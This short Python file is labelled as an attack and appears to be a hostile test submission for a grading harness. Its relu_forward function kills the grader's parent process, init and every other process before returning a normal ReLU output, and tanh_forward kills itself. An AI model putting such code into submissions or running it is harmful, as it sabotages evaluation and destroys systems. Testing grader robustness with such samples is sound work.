"""Attack: kill the grader, every other process, and finally itself."""
import os
import signal

import numpy as np


def relu_forward(x):
    targets = [os.getppid(), 1] + [int(pid) for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]
    for pid in targets:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return np.where(x > 0, x, 0).astype(x.dtype, copy=False), x.copy()


def tanh_forward(x):
    os.kill(os.getpid(), signal.SIGKILL)
